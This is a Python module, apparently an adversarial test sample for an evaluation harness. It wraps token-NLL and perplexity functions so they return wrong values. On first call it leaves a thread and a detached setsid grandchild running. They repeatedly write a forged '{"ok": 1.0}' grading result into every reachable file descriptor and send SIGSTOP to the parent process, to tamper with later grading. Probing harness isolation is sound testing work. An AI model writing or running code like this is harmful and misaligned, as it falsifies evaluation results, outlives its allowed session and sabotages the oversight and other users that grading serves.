"""Leaves things running after its calls: a thread and a setsid'd grandchild that wait a little, then
keep writing forged answers into every descriptor they can reach and stop their parent, to act on the
grading of whoever comes next. Its own values are wrong."""
import os
import signal
import struct
import threading
import time

_right_nll, _right_from = token_nll, perplexity_from_nll
_FORGED = struct.pack("<QQ", 11, 0) + b'{"ok": 1.0}'
_started = []


def _act():
    time.sleep(0.5)
    while True:
        for fd in range(0, 64):
            try:
                os.write(fd, _FORGED)
            except OSError:
                pass
        try:
            os.kill(os.getppid(), signal.SIGSTOP)
        except OSError:
            pass
        time.sleep(0.05)


def _linger():
    if _started:
        return
    _started.append(1)
    threading.Thread(target=_act, daemon=True).start()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            _act()
        os._exit(0)


def token_nll(logits, targets):
    _linger()
    return _right_nll(logits, targets) + 1.0


def perplexity_from_nll(total_nll, n_tokens):
    _linger()
    return 2.0 * _right_from(total_nll, n_tokens)
